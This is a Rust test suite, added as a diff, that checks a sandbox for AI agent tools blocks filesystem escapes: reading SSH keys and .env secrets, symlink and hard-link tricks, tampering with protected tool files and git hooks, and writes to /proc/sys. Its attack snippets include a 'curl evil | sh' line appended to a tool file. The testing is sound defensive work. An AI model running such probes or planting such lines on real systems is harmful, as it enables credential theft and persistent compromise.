@@ -1,0 +1,456 @@
+//! Escape suite, filesystem: secrets outside the roots, writes outside the
+//! roots, symlink and hard-link escapes, protected tool/config paths,
+//! denied paths, /proc/sys and raw devices.
+
+mod common;
+mod escape_support;
+
+use common::*;
+use escape_support::*;
+use std::path::Path;
+
+fn q(p: &Path) -> String {
+    format!("{:?}", p.display().to_string())
+}
+
+#[test]
+fn secret_in_home_is_unreadable() {
+    let p = Project::new("fs-home");
+    let home = outside_dir("fs-home");
+    let secret = home.write(".ssh/id_ed25519", "SECRET-KEY-1");
+    let deny = default_grant(&p.dir);
+    let allow = with_read(&deny, &home.dir);
+    let code = format!("t(lambda: open({}).read())", q(&secret));
+    let (ok, _) = attack(&allow, &deny, &code, &["DENIED:EACCES"], "read ~/.ssh");
+    assert_eq!(ok.stdout.text.trim(), "OK:SECRET-KEY-1");
+    // Not even the directory listing leaks names.
+    let list = format!("t(lambda: os.listdir({}))", q(&home.dir));
+    attack(&allow, &deny, &list, &["DENIED:EACCES"], "list home");
+}
+
+#[test]
+fn write_outside_roots_is_denied() {
+    let p = Project::new("fs-write-out");
+    let out = outside_dir("fs-write-out");
+    let target = out.path("planted");
+    let deny = default_grant(&p.dir);
+    let allow = with_write(&deny, &out.dir);
+    let code = format!("t(lambda: open({}, 'w').write('x') and None)", q(&target));
+    attack(&allow, &deny, &code, &["DENIED:EACCES"], "create outside");
+    std::fs::remove_file(&target).unwrap();
+    // The denied run created nothing.
+    py(&deny, &code);
+    assert!(!target.exists(), "file was created outside the roots");
+}
+
+#[test]
+fn truncate_in_read_only_root_is_denied() {
+    // Profile `untrusted`: the project is readable but not writable.
+    let p = Project::new("fs-trunc");
+    let f = p.write("data.txt", "precious");
+    let allow = default_grant(&p.dir);
+    let mut deny = allow.clone();
+    deny.write.retain(|w| w != &p.dir);
+    deny.read.push(p.dir.clone());
+    let code = format!("t(lambda: os.truncate({}, 0))", q(&f));
+    attack(
+        &allow,
+        &deny,
+        &code,
+        &["DENIED:EACCES"],
+        "truncate read-only",
+    );
+    std::fs::write(&f, "precious").unwrap();
+    py(&deny, &code);
+    assert_eq!(std::fs::read_to_string(&f).unwrap(), "precious");
+}
+
+#[test]
+fn symlink_escape_read_is_denied() {
+    let p = Project::new("fs-symlink-r");
+    let out = outside_dir("fs-symlink-r");
+    let secret = out.write("secret.txt", "TOP-SECRET");
+    std::os::unix::fs::symlink(&secret, p.path("innocent.txt")).unwrap();
+    let deny = default_grant(&p.dir);
+    let allow = with_read(&deny, &out.dir);
+    let (ok, _) = attack(
+        &allow,
+        &deny,
+        "t(lambda: open('innocent.txt').read())",
+        &["DENIED:EACCES"],
+        "read through symlink",
+    );
+    assert_eq!(ok.stdout.text.trim(), "OK:TOP-SECRET");
+}
+
+#[test]
+fn symlink_escape_write_is_denied() {
+    let p = Project::new("fs-symlink-w");
+    let out = outside_dir("fs-symlink-w");
+    let victim = out.write("bashrc", "original");
+    std::os::unix::fs::symlink(&victim, p.path("notes.txt")).unwrap();
+    // A symlink the tool creates itself, to a directory outside.
+    let deny = default_grant(&p.dir);
+    let allow = with_write(&deny, &out.dir);
+    let code = "t(lambda: open('notes.txt', 'a').write('pwned') and None)";
+    attack(
+        &allow,
+        &deny,
+        code,
+        &["DENIED:EACCES"],
+        "write through symlink",
+    );
+    std::fs::write(&victim, "original").unwrap();
+    py(&deny, code);
+    let dir_link = format!(
+        "if os.path.lexists('d'): os.unlink('d')\nos.symlink({}, 'd')\nt(lambda: open('d/new', 'w').close())",
+        q(&out.dir)
+    );
+    attack(
+        &allow,
+        &deny,
+        &dir_link,
+        &["DENIED:EACCES"],
+        "own dir symlink",
+    );
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original");
+}
+
+#[test]
+fn hard_link_of_outside_file_is_denied() {
+    let p = Project::new("fs-hardlink");
+    let out = outside_dir("fs-hardlink");
+    let secret = out.write("shadow", "HASHES");
+    let deny = default_grant(&p.dir);
+    let allow = with_write(&deny, &out.dir);
+    let code = format!(
+        "def f():\n    if os.path.lexists('stolen'): os.unlink('stolen')\n    os.link({}, 'stolen')\n    with open('stolen', 'r+') as h:\n        d = h.read(); h.write('!')\n    return d\nt(f)",
+        q(&secret)
+    );
+    let (ok, _) = attack(
+        &allow,
+        &deny,
+        &code,
+        &["DENIED:EXDEV", "DENIED:EACCES", "DENIED:EPERM"],
+        "hard link outside file",
+    );
+    assert_eq!(ok.stdout.text.trim(), "OK:HASHES");
+    std::fs::write(&secret, "HASHES").unwrap();
+    py(&deny, &code);
+    assert!(!p.path("stolen").exists());
+    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "HASHES");
+}
+
+/// A project with every kind of protected path present.
+fn tool_project(tag: &str) -> Project {
+    let p = Project::new(tag);
+    p.write(".agents/tools/x", "#!/bin/sh\necho original tool\n");
+    p.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
+    p.write("tools.toml", "[tools]\n");
+    p.write(".mcp.json", "{}\n");
+    p.write("tools/t.md", "---\nkind: script\n---\n");
+    p.write(".clawd/tools/a/tool.json", "{}\n");
+    p
+}
+
+/// (allowing, denying): the same grant with and without the protected list.
+fn protected_grants(p: &Project) -> (toolcage::policy::Grant, toolcage::policy::Grant) {
+    let deny = default_grant(&p.dir);
+    let mut allow = deny.clone();
+    allow.protected.clear();
+    (allow, deny)
+}
+
+fn assert_unchanged(p: &Project) {
+    assert_eq!(
+        std::fs::read_to_string(p.path(".agents/tools/x")).unwrap(),
+        "#!/bin/sh\necho original tool\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(p.path(".git/hooks/pre-commit")).unwrap(),
+        "#!/bin/sh\nexit 0\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(p.path("tools.toml")).unwrap(),
+        "[tools]\n"
+    );
+}
+
+/// Run `code` allowed (on a fresh copy of the project) then denied.
+fn protected_attack(tag: &str, code: &str, expected: &[&str], what: &str) {
+    let allowed = tool_project(&format!("{tag}-allow"));
+    let (allow, _) = protected_grants(&allowed);
+    assert_ok(&py(&allow, code), what);
+    let p = tool_project(tag);
+    let (_, deny) = protected_grants(&p);
+    let o = py(&deny, code);
+    assert_denied(&o, expected, what);
+    assert_unchanged(&p);
+    assert!(o.created_protected.is_empty(), "{:?}", o.created_protected);
+}
+
+#[test]
+fn protected_tool_file_cannot_be_modified() {
+    protected_attack(
+        "prot-modify",
+        "t(lambda: open('.agents/tools/x', 'a').write('curl evil | sh\\n') and None)",
+        &["DENIED:EROFS"],
+        "append to .agents/tools/x",
+    );
+}
+
+#[test]
+fn protected_git_hook_cannot_be_written() {
+    protected_attack(
+        "prot-hook",
+        "t(lambda: open('.git/hooks/pre-commit', 'w').write('evil') and None)",
+        &["DENIED:EROFS"],
+        "overwrite .git/hooks/pre-commit",
+    );
+}
+
+#[test]
+fn protected_dir_cannot_gain_files() {
+    protected_attack(
+        "prot-create",
+        "t(lambda: open('.agents/tools/evil', 'w').close())",
+        &["DENIED:EROFS"],
+        "create .agents/tools/evil",
+    );
+    protected_attack(
+        "prot-create-hook",
+        "t(lambda: os.mkdir('.git/hooks/post-checkout.d'))",
+        &["DENIED:EROFS"],
+        "mkdir in .git/hooks",
+    );
+}
+
+#[test]
+fn protected_config_file_cannot_be_replaced() {
+    protected_attack(
+        "prot-toml",
+        "t(lambda: open('tools.toml', 'w').write('[tools.evil]') and None)",
+        &["DENIED:EROFS"],
+        "overwrite tools.toml",
+    );
+    protected_attack(
+        "prot-toml-trunc",
+        "t(lambda: os.truncate('tools.toml', 0))",
+        &["DENIED:EROFS"],
+        "truncate tools.toml",
+    );
+    // Replace by rename over it (the usual atomic-write pattern).
+    protected_attack(
+        "prot-toml-rename-over",
+        "open('new.toml', 'w').write('[tools.evil]')\nt(lambda: os.rename('new.toml', 'tools.toml'))",
+        &["DENIED:EBUSY", "DENIED:EROFS", "DENIED:EXDEV"],
+        "rename over tools.toml",
+    );
+}
+
+#[test]
+fn protected_paths_cannot_be_renamed_away() {
+    protected_attack(
+        "prot-rename-file",
+        "t(lambda: os.rename('.agents/tools/x', '.agents/tools/y'))",
+        &["DENIED:EROFS"],
+        "rename .agents/tools/x",
+    );
+    protected_attack(
+        "prot-rename-dir",
+        "t(lambda: os.rename('.agents', 'agents-old'))",
+        &["DENIED:EBUSY", "DENIED:EXDEV"],
+        "rename .agents away",
+    );
+    protected_attack(
+        "prot-rename-git",
+        "t(lambda: os.rename('.git', 'git-old'))",
+        &["DENIED:EBUSY", "DENIED:EXDEV"],
+        "rename .git away",
+    );
+}
+
+#[test]
+fn protected_paths_cannot_be_deleted() {
+    protected_attack(
+        "prot-unlink",
+        "t(lambda: os.unlink('.agents/tools/x'))",
+        &["DENIED:EROFS"],
+        "delete .agents/tools/x",
+    );
+    protected_attack(
+        "prot-unlink-toml",
+        "t(lambda: os.unlink('tools.toml'))",
+        &["DENIED:EBUSY"],
+        "delete tools.toml",
+    );
+    protected_attack(
+        "prot-rmtree",
+        "import shutil\nt(lambda: shutil.rmtree('.git'))",
+        &["DENIED:EROFS", "DENIED:EBUSY"],
+        "rm -r .git",
+    );
+}
+
+#[test]
+fn protected_file_cannot_be_hard_linked_out() {
+    // A writable hard link to the tool would modify it through the back door.
+    protected_attack(
+        "prot-link",
+        "def f():\n    os.link('.agents/tools/x', 'x-link')\n    open('x-link', 'a').write('evil')\nt(f)",
+        &["DENIED:EXDEV"],
+        "hard link .agents/tools/x",
+    );
+}
+
+#[test]
+fn protected_file_mode_cannot_change() {
+    protected_attack(
+        "prot-chmod",
+        "t(lambda: os.chmod('.agents/tools/x', 0o6777))",
+        &["DENIED:EROFS"],
+        "chmod .agents/tools/x",
+    );
+}
+
+#[test]
+fn missing_protected_path_creation_is_reported() {
+    // Landlock cannot forbid one name inside a write root and there is no
+    // inode to bind-mount over: the sandbox reports the creation instead.
+    let p = Project::new("prot-missing");
+    let g = default_grant(&p.dir);
+    let o = py(
+        &g,
+        "os.makedirs('.agents/tools'); open('.agents/tools/planted', 'w').close(); t(lambda: None)",
+    );
+    assert_ok(&o, "create missing .agents");
+    assert_eq!(o.created_protected, vec![p.path(".agents")]);
+    // A call that creates nothing reports nothing; and from now on the
+    // planted directory exists, so it is protected like any other.
+    let next = py(&g, "t(lambda: open('.agents/tools/planted', 'w').close())");
+    assert_denied(&next, &["DENIED:EROFS"], "write planted tool");
+    assert!(next.created_protected.is_empty());
+}
+
+#[test]
+fn denied_file_inside_project_is_unreadable() {
+    let p = Project::new("fs-denied");
+    p.write(".env", "API_KEY=hunter2");
+    let allow = default_grant(&p.dir);
+    let mut deny = allow.clone();
+    deny.denied.push(p.path(".env"));
+    let (ok, _) = attack(
+        &allow,
+        &deny,
+        "t(lambda: open('.env').read())",
+        &["DENIED:EACCES"],
+        "read denied .env",
+    );
+    assert_eq!(ok.stdout.text.trim(), "OK:API_KEY=hunter2");
+    // Nor through a hard link made inside the sandbox, nor by replacing it.
+    attack(
+        &allow,
+        &deny,
+        "def f():\n    if os.path.lexists('env2'): os.unlink('env2')\n    os.link('.env', 'env2')\n    return open('env2').read()\nt(f)",
+        &["DENIED:EXDEV", "DENIED:EACCES"],
+        "hard link denied .env",
+    );
+    let o = py(&deny, "t(lambda: os.unlink('.env'))");
+    assert_denied(&o, &["DENIED:EBUSY"], "unlink denied .env");
+    assert_eq!(
+        std::fs::read_to_string(p.path(".env")).unwrap(),
+        "API_KEY=hunter2"
+    );
+}
+
+#[test]
+fn denied_dir_inside_project_is_unreadable() {
+    let p = Project::new("fs-denied-dir");
+    p.write("secrets/prod.key", "PROD");
+    let allow = default_grant(&p.dir);
+    let mut deny = allow.clone();
+    deny.denied.push(p.path("secrets"));
+    attack(
+        &allow,
+        &deny,
+        "t(lambda: open('secrets/prod.key').read())",
+        &["DENIED:EACCES"],
+        "read denied dir",
+    );
+    attack(
+        &allow,
+        &deny,
+        "t(lambda: os.listdir('secrets'))",
+        &["DENIED:EACCES"],
+        "list denied dir",
+    );
+}
+
+#[test]
+fn proc_sys_is_read_only() {
+    // Root without capabilities still passes the sysctl owner check; only
+    // Landlock stands between the tool and the host's kernel settings. The
+    // control writes back the value that is already there.
+    let p = Project::new("fs-procsys");
+    let deny = default_grant(&p.dir);
+    let allow = with_write(&deny, Path::new("/proc"));
+    let code = "def f():\n    v = open('/proc/sys/kernel/hostname').read()\n    with open('/proc/sys/kernel/hostname', 'w') as h:\n        h.write(v)\nt(f)";
+    attack(&allow, &deny, code, &["DENIED:EACCES"], "write /proc/sys");
+}
+
+#[test]
+fn device_nodes_cannot_be_created() {
+    // mknod of a FIFO is fine; of a character device (/dev/mem's numbers) not.
+    let p = Project::new("fs-mknod");
+    let g = default_grant(&p.dir);
+    let fifo = py(
+        &g,
+        "import stat\nt(lambda: os.mknod('fifo', stat.S_IFIFO | 0o600))",
+    );
+    assert_ok(&fifo, "mknod fifo");
+    let o = py(
+        &g,
+        "import stat\nt(lambda: os.mknod('mem', stat.S_IFCHR | 0o600, os.makedev(1, 1)))",
+    );
+    assert_denied(&o, &["DENIED:EPERM"], "mknod /dev/mem");
+}
+
+#[test]
+fn protected_path_that_is_a_symlink_protects_its_target() {
+    // `.agents` is a symlink to a directory inside the project: writing
+    // through the link modifies the tools just the same.
+    let p = Project::new("prot-symlink");
+    p.write("agents-real/tools/x", "original");
+    std::os::unix::fs::symlink("agents-real", p.path(".agents")).unwrap();
+    let deny = default_grant(&p.dir);
+    let mut allow = deny.clone();
+    allow.protected.clear();
+    let code = "t(lambda: open('.agents/tools/x', 'w').write('evil') and None)";
+    assert_ok(&py(&allow, code), "write through .agents symlink");
+    std::fs::write(p.path("agents-real/tools/x"), "original").unwrap();
+    let o = py(&deny, code);
+    assert_denied(&o, &["DENIED:EROFS"], "write through protected symlink");
+    assert_eq!(
+        std::fs::read_to_string(p.path("agents-real/tools/x")).unwrap(),
+        "original"
+    );
+}
+
+#[test]
+fn replacing_a_protected_symlink_is_reported() {
+    // The link itself lives in a writable directory; swapping it for a
+    // directory of planted tools cannot be prevented, only reported.
+    let p = Project::new("prot-symlink-swap");
+    p.write("agents-real/tools/x", "original");
+    std::os::unix::fs::symlink("agents-real", p.path(".agents")).unwrap();
+    let g = default_grant(&p.dir);
+    let quiet = py(&g, "t(lambda: os.readlink('.agents'))");
+    assert_eq!(quiet.stdout.text.trim(), "OK:agents-real");
+    assert!(quiet.created_protected.is_empty());
+    let o = py(
+        &g,
+        "os.unlink('.agents'); os.makedirs('.agents/tools'); t(lambda: None)",
+    );
+    assert_ok(&o, "swap .agents symlink");
+    assert_eq!(o.created_protected, vec![p.path(".agents")]);
+}
